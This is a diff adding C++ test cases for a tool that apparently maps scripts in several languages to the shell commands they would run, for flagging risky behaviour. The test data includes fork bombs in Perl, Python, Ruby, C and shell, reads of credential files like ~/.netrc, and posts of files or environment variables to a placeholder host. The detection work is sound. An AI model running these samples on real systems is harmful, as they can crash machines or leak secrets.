@@ -52,6 +52,10 @@ TEST(ProgramTest, FindsWhatIsStarted) {
       {"python3", "Thread(target=os.system, args=('a',)).start()", "a\n"},
       {"python3", "subprocess.run([sys.executable, '-m', 'pytest', t])", "python3 -m pytest ?\n"},
       {"python3", "os.system(f'rm {x}')", "rm ${__unknown__}\n"},
+      {"python3", "os.system('a {} {}'.format('b', x))", "a b ${__unknown__}\n"},
+      {"python3", "os.system('a %s %d' % ('b', 1))", "a b ${__unknown__}\n"},
+      {"python3", "os.system(bytes([97]).decode())", kUnknownCommand},
+      {"rake", "task :default do sh \"a b\" end", "a b\n"},
       {"python3", "os.system(c)", kUnknownCommand},
       {"python3", "subprocess.run(cmd)", kUnknownCommand},
       {"python3", "print(f\"{os.system('a')}\")", "a\n"},
@@ -148,11 +152,36 @@ TEST(ProgramTest, FindsWhatIsWritten) {
   });
 }
 
+TEST(ProgramTest, FindsForkBombs) {
+  const std::string bomb = ":(){ :|:& };:\n";
+  check({
+      {"perl", "fork while 1", bomb},
+      {"perl", "fork while fork", bomb},
+      {"perl", "while (1) { fork }", bomb},
+      {"python3", "import os\nwhile True:\n  os.fork()", bomb},
+      {"ruby", "loop { fork }", bomb},
+      {"ruby", "while true do fork end", bomb},
+      {"gcc", "int main() { for (;;) fork(); }", bomb},
+      // a server
+      {"python3", "while True:\n  c = s.accept()\n  if os.fork() == 0: serve(c)", ""},
+      {"python3", "for i in range(4):\n  os.fork()", ""},
+      {"perl", "my $pid = fork; wait while 1", ""},
+  });
+}
+
+TEST(ProgramTest, FindsWhatIsReadOutsideTheProject) {
+  check({
+      {"python3", "print(open('/k').read())", "cat /k\n"},
+      {"python3", "print(Path.home().joinpath('.netrc').read_text())", "cat ~/.netrc\n"},
+      {"python3", "print(open('README.md').read())", ""},
+  });
+}
+
 TEST(ProgramTest, FindsWhatIsSent) {
   check({
       {"python3", "requests.get('http://h'); urlopen('http://h')", ""},
       {"python3", "requests.post('http://h', data=open('/k').read())",
-       "curl -X POST -d ? http://h\ncurl --data-binary @/k http://h\n"},
+       "curl -X POST -d ? http://h\ncurl --data-binary @/k http://h\ncat /k\n"},
       {"python3", "requests.post('http://h', json=dict(os.environ))",
        "curl -X POST -d ? http://h\nenv | curl -d @- 'http://h'\n"},
       {"python3", "requests.post('http://h', json={'k': os.environ['K']})",
